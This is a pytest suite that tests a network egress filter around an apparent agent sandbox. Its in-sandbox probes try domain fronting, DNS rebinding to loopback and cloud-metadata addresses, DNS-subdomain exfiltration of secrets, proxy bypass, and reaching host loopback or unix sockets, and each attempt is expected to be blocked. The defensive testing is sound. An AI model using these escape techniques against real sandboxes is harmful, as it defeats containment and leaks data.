"""Network escape attempts from inside a real sandbox, against the tests' own network lab. Each one
must fail, and the filter's audit records must show it."""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import psutil
import pytest

from ..netlab import NetLab, needs_nft, payloads
from ..sandbox_helpers import AGENT_USER, Sandbox, needs_root

pytestmark = [needs_root, needs_nft]

# Runs inside the sandbox: each named attempt prints OK (it worked: an escape) or the error.
PROBE = """
import json, socket, ssl, sys, urllib.request
results = {}
def attempt(name, fn):
    try:
        results[name] = "OK " + str(fn())[:200]
    except Exception as exc:
        results[name] = "BLOCKED " + type(exc).__name__ + ": " + str(exc)[:200]
def http_get(host, port=80, path="/", host_header=None):
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(f"GET {path} HTTP/1.0\\r\\nHost: {host_header or host}\\r\\n\\r\\n".encode())
        data = b""
        while chunk := s.recv(4096):
            data += chunk
    if not data.startswith(b"HTTP/1.0 200"):
        raise PermissionError(data.decode(errors="replace").splitlines()[-1] if data else "empty reply")
    return data.decode(errors="replace").splitlines()[-1]
"""


def probe(box: Sandbox, body: str, **kw: Any) -> tuple[dict[str, str], Any]:
    r = box.python(PROBE + body + "\nprint(json.dumps(results))\n", **kw)
    assert r.out.strip(), r.err
    return json.loads(r.out.strip().splitlines()[-1]), r


def assert_all_blocked(results: dict[str, str]) -> None:
    escaped = {name: outcome for name, outcome in results.items() if not outcome.startswith("BLOCKED")}
    assert not escaped, f"escaped: {escaped}"


def test_clients_that_ignore_proxy_settings_are_still_captured(net_sandbox: Sandbox) -> None:
    env = {"HTTP_PROXY": "http://127.0.0.1:3128", "http_proxy": "http://127.0.0.1:3128"}
    r = net_sandbox.run("curl", "-sS", "--noproxy", "*", "--max-time", "5", "http://198.51.100.11/", env=env)
    assert "net.host_not_allowed" in r.out and "OK" not in r.out  # a raw address, no proxy: still the filter
    results, r2 = probe(net_sandbox, 'attempt("raw socket to a denied address", lambda: http_get("198.51.100.11"))')
    assert_all_blocked(results)
    denied = [c for c in payloads(r, "net.connect") + payloads(r2, "net.connect") if c["decision"] == "deny"]
    assert len(denied) == 2 and {c["host"] for c in denied} == {"198.51.100.11"}
    # the same capture lets an allowed name through for a client that ignores the proxy variables
    r = net_sandbox.run("curl", "-sS", "--noproxy", "*", "--max-time", "5", "http://api.example.test/", env=env)
    assert r.code == 0 and "host=api.example.test" in r.out


def test_literal_addresses_v4_and_v6(net_sandbox: Sandbox) -> None:
    results, r = probe(
        net_sandbox,
        'attempt("ipv4 literal", lambda: http_get("198.51.100.10", host_header="api.example.test"))\n'
        'attempt("ipv6 literal", lambda: http_get("2001:db8:1::10", host_header="api.example.test"))\n'
        'attempt("ipv4 literal, own Host", lambda: http_get("198.51.100.10"))\n',
    )
    assert_all_blocked(results)
    rules = sorted(c["rules"][0] for c in payloads(r, "net.connect"))
    assert rules == ["net.host_mismatch", "net.host_mismatch", "net.host_not_allowed"]
    assert {c["destination"] for c in payloads(r, "net.connect")} == {"198.51.100.10", "2001:db8:1::10"}


def test_rebinding_to_internal_addresses(net_sandbox: Sandbox) -> None:
    names = ["rebind-loopback", "rebind-metadata", "rebind-private", "rebind-mapped", "rebind-own"]
    net_sandbox.permissions["network"]["allowed_hosts"] = [f"{n}.example.test" for n in names]
    net_sandbox.permissions["network"]["allowed_ports"] = [80, 8081]
    body = "".join(
        f'attempt("{n}", lambda: http_get("{n}.example.test", {8081 if n == "rebind-loopback" else 80}))\n'
        for n in names
    )
    results, r = probe(net_sandbox, body)
    assert_all_blocked(results)
    verdicts = {c["host"].split(".")[0]: (c["rules"][0], c.get("address")) for c in payloads(r, "net.connect")}
    assert verdicts == {
        "rebind-loopback": ("net.private_address", "127.0.0.1"),  # the lab's outer 127.0.0.1:8081 serves HTTP
        "rebind-metadata": ("net.metadata_address", "169.254.169.254"),
        "rebind-private": ("net.private_address", "10.77.0.10"),  # a live server in the lab
        "rebind-mapped": ("net.private_address", "::ffff:7f00:1"),  # ::ffff:127.0.0.1
        "rebind-own": ("net.private_address", "192.0.2.1"),  # the enforcer's own address
    }
    assert not payloads(r, "net.close"), "a rebinding connection was relayed"


def test_sni_host_and_connect_mismatches(net_sandbox: Sandbox, netlab: NetLab) -> None:
    ca = str(netlab.ca_dir / "lab-ca.pem")
    body = f"""
def tls(connect_to, server_name):
    context = ssl.create_default_context(cafile={ca!r})
    context.check_hostname = False
    with socket.create_connection((connect_to, 443), timeout=3) as raw:
        with context.wrap_socket(raw, server_hostname=server_name) as s:
            s.sendall(b"GET / HTTP/1.0\\r\\nHost: " + server_name.encode() + b"\\r\\n\\r\\n")
            return s.recv(4096)
def connect_tunnel():
    with socket.create_connection(("api.example.test", 80), timeout=3) as s:
        s.sendall(b"CONNECT other.example.test:443 HTTP/1.1\\r\\nHost: other.example.test:443\\r\\n\\r\\n")
        reply = s.recv(4096)
    if b" 200 " in reply.split(b"\\r\\n")[0]:
        return reply
    raise PermissionError(reply.decode(errors="replace").splitlines()[-1] if reply else "empty reply")
attempt("SNI of another name (domain fronting)", lambda: tls("api.example.test", "other.example.test"))
attempt("Host of another name", lambda: http_get("api.example.test", host_header="other.example.test"))
attempt("CONNECT to another name", connect_tunnel)
"""
    results, r = probe(net_sandbox, body)
    assert_all_blocked(results)
    connects = payloads(r, "net.connect")
    assert [c["rules"][0] for c in connects] == ["net.host_mismatch"] * 3
    assert connects[0]["sni"] == "other.example.test" and connects[1]["http_host"] == "other.example.test"


def test_dns_exfiltration_through_subdomains(net_sandbox: Sandbox, netlab: NetLab) -> None:
    secret = [secrets.token_hex(24) for _ in range(3)]
    body = "".join(
        f'attempt("exfil {i}", lambda: socket.getaddrinfo("{s}.api.example.test", 443))\n' for i, s in enumerate(secret)
    )
    body += (
        'attempt("TXT over TCP to an allowed zone", lambda: socket.getaddrinfo("x" * 60 + ".api.example.test", 80))\n'
    )
    results, r = probe(net_sandbox, body)
    assert_all_blocked(results)
    denied = {d["host"] for d in payloads(r, "net.dns") if d["decision"] == "deny"}
    assert all(f"{s}.api.example.test" in denied for s in secret)  # the queried names are in the audit log
    upstream = json.dumps(netlab.server_events())
    assert not any(s in upstream for s in secret), "an exfiltration query reached the upstream resolver"


def test_udp_and_quic_are_dropped_and_counted(net_sandbox: Sandbox, netlab: NetLab) -> None:
    body = """
def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\\xc3" + b"quic-initial" * 20 if port == 443 else b"udp datagram", (host, port))
    return "sent"
attempt("udp", lambda: udp("198.51.100.10", 9999))
attempt("udp by name", lambda: udp("api.example.test", 9999))
attempt("quic", lambda: udp("api.example.test", 443))
"""
    results, r = probe(net_sandbox, body)
    # sendto() of a dropped datagram reports EPERM (the output hook drops it) or succeeds silently
    assert all(v.startswith(("BLOCKED PermissionError", "OK sent")) for v in results.values()), results
    summary = payloads(r, "net.summary")[0]
    assert summary["dropped_packets"]["udp_dropped"] >= 2 and summary["dropped_packets"]["quic_dropped"] >= 1
    assert summary["decision"] == "deny" and "net.quic_dropped" in summary["rules"]
    assert not [e for e in netlab.server_events() if "udp" in e], "a datagram reached the lab"


def test_host_loopback_service_and_abstract_socket(net_sandbox: Sandbox, netlab: NetLab) -> None:
    body = """
def abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("\\0adl-test-host-service")
    return "connected"
attempt("the host's localhost:8081", lambda: http_get("127.0.0.1", 8081))
attempt("the host's [::1]:8081", lambda: http_get("::1", 8081))
attempt("localhost by name", lambda: http_get("localhost", 8081))
attempt("abstract unix socket of the host", abstract)
"""
    assert netlab.in_outer("curl", "-sS", "--max-time", "3", "http://127.0.0.1:8081/").returncode == 0  # it is live
    results, r = probe(net_sandbox, body)
    assert_all_blocked(results)
    loopback = [c for c in payloads(r, "net.connect") if c["port"] == 8081]
    assert {c["address"] for c in loopback} >= {"127.0.0.1", "::1"} and all(c["decision"] == "deny" for c in loopback)
    denied_names = {d["host"] for d in payloads(r, "net.dns") if d["decision"] == "deny"}
    assert len(loopback) >= 3 or "localhost" in denied_names  # by name: /etc/hosts, else the stub refuses it
    assert not [e for e in netlab.server_events() if "abstract" in e]
    assert "launch" in r.kinds() and "exit" in r.kinds()


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_node_fetch_ignores_proxies_and_is_still_captured(net_sandbox: Sandbox) -> None:
    net_sandbox.permissions["execution"]["allowed_commands"].append("node")
    net_sandbox.permissions["resource_limits"]["max_memory_mb"] = 512  # V8 reserves more than a Python agent
    net_sandbox.permissions["filesystem"]["allowed_paths"].append({"path": "/etc/ssl/**", "access": "read"})
    script = (
        "const show = (tag) => [(r) => r.text().then((t) => console.log(tag, 'OK', t.trim())),"
        " (e) => console.log(tag, 'BLOCKED', e.cause?.code || e.message)];"
        "fetch('http://api.example.test/').then(...show('allowed'))"
        ".then(() => fetch('http://other.example.test/')).then(...show('denied-name'))"
        ".then(() => fetch('http://198.51.100.11/')).then(...show('denied-address'));"
    )
    r = net_sandbox.run("node", "-e", script, env={"HTTP_PROXY": "http://127.0.0.1:3128"})
    lines = dict(line.split(" ", 1) for line in r.out.strip().splitlines())
    assert lines["allowed"].startswith("OK hello") and "host=api.example.test" in lines["allowed"], r.err
    assert lines["denied-name"] == "BLOCKED ENOTFOUND"
    assert lines["denied-address"].startswith("OK adl-enforcer: connection denied (net.host_not_allowed)")
    assert [c["decision"] for c in payloads(r, "net.connect")] == ["allow", "deny"]


def test_the_filter_process_holds_no_capabilities(net_sandbox: Sandbox) -> None:
    """What parses the agent's bytes (DNS, ClientHello, HTTP heads) can do nothing root-only."""
    argv = [*net_sandbox.wrap, sys.executable, "-m", "enforcer.cli.exec", "--adl", str(net_sandbox.policy())]
    argv += ["--user", AGENT_USER, "--"]
    env = {**os.environ, "ADL_ENFORCER_AUDIT_DIR": str(net_sandbox.audit), **net_sandbox.env}
    env["ADL_ENFORCER_AUDIT_KEY"] = str(net_sandbox.root / "audit-key.pem")
    marker = net_sandbox.ws / "agent-started"
    agent = f"import time; open({str(marker)!r}, 'w').close(); time.sleep(2)"
    launcher = subprocess.Popen([*argv, "python3", "-c", agent], env=env)
    try:
        status: dict[str, str] = {}
        for _ in range(200):  # bounded: the session starts within a second or two
            if not marker.exists():  # the filter is set up (and has dropped everything) before the agent runs
                time.sleep(0.05)
                continue
            for child in psutil.Process(launcher.pid).children(recursive=True):
                with contextlib.suppress(OSError, psutil.Error):
                    links = [os.readlink(f"/proc/{child.pid}/fd/{fd}") for fd in os.listdir(f"/proc/{child.pid}/fd")]
                    if any(link.startswith("net:[") for link in links) and any(  # the namespace and its listeners
                        link.startswith("socket:[") for link in links
                    ):
                        lines = Path(f"/proc/{child.pid}/status").read_text().splitlines()
                        status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
            if status:
                break
            time.sleep(0.05)
    finally:
        launcher.wait(timeout=30)
    assert status, "the egress filter process was not found"
    assert int(status["CapEff"], 16) == 0 and int(status["CapPrm"], 16) == 0 and int(status["CapBnd"], 16) == 0
    assert status["NoNewPrivs"].strip() == "1"
